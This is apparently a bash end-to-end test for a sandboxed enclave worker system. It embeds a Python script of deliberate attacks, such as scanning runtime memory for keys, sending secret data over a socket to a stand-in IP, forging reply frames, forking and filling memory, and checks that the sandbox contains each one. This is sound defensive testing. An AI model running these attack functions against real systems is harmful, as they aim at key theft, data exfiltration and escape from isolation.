#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Scripts that are not what they should be, in workers: each tries one thing, and gains nothing. What a
# custodian gets is a reply of the one call, or none; what the machine's owner sees is the same size
# whatever happened. tests/worker/custodian.c stands in for the custodian here.
# timeout: 300
# shellcheck source=tests/e2e/common.sh
. "$(dirname "$0")/common.sh"

MODULE=$TOP/python/alcove
SECRET=a-secret-of-Ada
export ALCOVE CUSTODIAN="$BUILD/tests/worker/custodian --unchecked"

mkdir "$WORK/w"
cp -r "$MODULE" "$WORK/w/module"
sed -e 's#\.\./\.\./python/alcove#module#' -e 's#travel\.py#script.py#g' \
    "$TOP/examples/private/alcove.yaml" >"$WORK/w/alcove.yaml"
cat >"$WORK/w/script.py" <<'END'
import ctypes
import os
import socket
import subprocess
import sys
import time

import alcove

RUNTIME = 0xfc0000000  # the top GiB of the enclave


def attack(function):
    alcove.query(function.__name__, alcove.count())(function)


@attack
def behaves(days):
    return int(len(days[0].data) > 3)


@attack
def crashes(days):
    ctypes.string_at(0)


@attack
def aborts(days):
    os.abort()


@attack
def reads_keys_with_ctypes(days):
    for at in range(RUNTIME, RUNTIME + (1 << 30), 4096):
        ctypes.string_at(at, 4096)
    return 1


@attack
def writes_over_the_runtime(days):
    ctypes.memset(RUNTIME, 0, 4096)  # its text begins there
    return 1


@attack
def asks_for_attestation(days):
    names = ["/dev/attestation", "/dev/attestation/quote", "/dev/attestation/user_report_data",
             "/dev/attestation/keys", "/dev/volumes", "/dev/sgx_enclave"]
    return sum(map(os.path.exists, names))


@attack
def forks(days):
    if os.fork() == 0:
        time.sleep(60)
    return 1


@attack
def starts_a_program(days):
    return int(subprocess.run(["/usr/bin/python3.11", "-c", "print(1)"], check=True,
                              capture_output=True).stdout)


@attack
def calls_out(days):
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM) as s:
        s.settimeout(5)
        s.connect(("192.0.2.1", 443))
        s.send(days[0].data.encode())
    return 1


@attack
def prints_secrets(days):
    print(days[0].data, flush=True)
    sys.stderr.write(days[0].data)
    os.write(1, days[0].data.encode())
    return 1


@attack
def writes_a_gigabyte_of_reply(days):
    block = b"x" * (1 << 20)
    for _ in range(1024):
        os.write(3, block)
    return 1


@attack
def writes_a_gigabyte_of_files(days):
    with open("/tmp/much", "wb") as file:
        for _ in range(1024):
            file.write(b"x" * (1 << 20))
    return 1


@attack
def takes_a_gigabyte_of_memory(days):
    return len(bytearray(1 << 30)) > 0


@attack
def claims_to_be_the_custodian(days):
    """Frames and records of a custodian, where the reply goes."""
    os.write(3, bytes.fromhex("20000000") + b"\xa2\x66format\x6ealcove-answer-1" * 40)
    os._exit(0)


@attack
def answers_for_another_kind_of_call(days):
    os.write(3, b"\xa3\x66format\x6ealcove-reply-1\x66vector\xf6\x69processed\x44mine")
    os._exit(0)


@attack
def answers_twice(days):
    os.write(3, b"\xa3\x66format\x6ealcove-reply-1\x66vector\x81\x01\x69processed\xf6")
    return 1


@attack
def changes_the_module(days):
    from alcove import worker
    worker.write_all = lambda fd, data: os.write(fd, b"\xa3\x66format")
    return 1


@attack
def leaves_files_for_the_next(days):
    found = os.listdir("/tmp")
    with open("/tmp/for-the-next", "w") as file:
        file.write(days[0].data)
    return len(found)
END
ok "the scripts are a worker" build_bundle "$WORK/w" "$WORK/worker.bundle"

# The reply of `vector: [N]`, in hexadecimal.
reply() {
    printf 'a366666f726d61746e616c636f76652d7265706c792d3166766563746f72810%d6970726f636573736564f6' "$1"
}
call_of() {
    "$PYTHON" -B - "$(dirname "$MODULE")" "$1" "$SECRET" >"$WORK/call" <<'END'
import json, sys
sys.path.insert(0, sys.argv[1])
from alcove import cbor
sys.stdout.buffer.write(cbor.encode({
    "days": [[20724, json.dumps(sys.argv[3]).encode()]], "kind": "query", "format": "alcove-call-1",
    "entries": 1, "function": sys.argv[2]}))
END
}
# tries ATTACK HEAD [REPLY]: the custodian's first line matches HEAD, the reply is REPLY (hexadecimal).
tries() {
    call_of "$1"
    rm -f "$WORK"/got*
    timeout 60 "$PYTHON" "$TOP/tests/e2e/worker_host.py" honest "$WORK/worker.bundle" "$WORK/call" \
        "$WORK/got" >"$WORK/said" || return 1
    cat "$WORK/said"
    head -n 1 "$WORK/got"
    tail -n +2 "$WORK/got" | tee "$WORK/body" | head -c 2000
    head -n 1 "$WORK/got" | grep -q -x -E "$2" || return 1
    local got size
    size=$(sed -n '1s/.* out \([0-9]*\) .*/\1/p' "$WORK/got")
    got=$(head -c "$size" "$WORK/body" | od -An -v -tx1 | tr -d ' \n')
    [ "${3-}" = any ] || [ "$got" = "${3-}" ]
}
# The host's view: no secret, no word, and a worker that ended as all workers end.
sizes=()
host_saw_nothing() {
    sizes+=("$(sed -n 's/^size //p' "$WORK/said")")
    [ -s "$WORK/got.carried" ] && [ ! -s "$WORK/got.stderr" ] && grep -q '^status 0$' "$WORK/said" &&
        ! LC_ALL=C grep -a -q -e "$SECRET" -e alcove-reply "$WORK/got.carried"
}
# attack TITLE NAME HEAD [REPLY]
attack() {
    ok "$1" tries "${@:2}"
    ok "… and the host saw nothing of it" host_saw_nothing
}
refused_outside() { refused 'no reply to this call' "$ALCOVE" try "$WORK/w/script.py" -f "$1"; }

attack "a script that behaves has its reply" behaves "end 0 0 complete 1 out 43 err 0" "$(reply 1)"
attack "one that crashes has none" crashes "end 1 11 complete 1 out 0 err .*"
attack "nor one that aborts" aborts "end 1 6 complete 1 out 0 err .*"
attack "one that reads on through the runtime's memory is ended" reads_keys_with_ctypes \
    "end 1 11 complete 1 out 0 err .*"
attack "so is one that writes over its text" writes_over_the_runtime "end 1 11 complete 1 out 0 err .*"
attack "one that looks for attestation, keys and volumes finds none" asks_for_attestation \
    "end 0 0 complete 1 out 43 err 0" "$(reply 0)"
attack "one cannot fork" forks "end 0 1 complete 1 out 0 err .*"
attack "nor start a program" starts_a_program "end 0 1 complete 1 out 0 err .*"
attack "nor call out" calls_out "end 0 1 complete 1 out 0 err .*"
attack "what it prints is for the owner" prints_secrets "end 0 0 complete 1 out 43 err .*" "$(reply 1)"
attack "a gigabyte of reply is none" writes_a_gigabyte_of_reply "end 0 [01] complete 0 out 0 err .*"
attack "a gigabyte of files has no room" writes_a_gigabyte_of_files "end 0 1 complete 1 out 0 err .*"
attack "nor has one of memory" takes_a_gigabyte_of_memory "end 0 1 complete 1 out 0 err .*"
attack "what a custodian would say is not one's reply" claims_to_be_the_custodian \
    "end 0 0 complete 1 .*" any
attack "nor is that to another call" answers_for_another_kind_of_call "end 0 0 complete 1 .*" any
attack "nor are two replies" answers_twice "end 0 0 complete 1 .*" any
attack "nor is what a changed module writes" changes_the_module "end 0 0 complete 1 .*" any
for name in claims_to_be_the_custodian answers_for_another_kind_of_call answers_twice \
    changes_the_module; do
    ok "… $name: refused by who reads it" refused_outside $name
done
attack "one that leaves files" leaves_files_for_the_next "end 0 0 complete 1 out 43 err 0" "$(reply 0)"
attack "… leaves them to nobody" leaves_files_for_the_next "end 0 0 complete 1 out 43 err 0" \
    "$(reply 0)"
ok "all results have one size" same 1 "$(printf '%s\n' "${sizes[@]}" | sort -u | grep -c .)"
tap_done
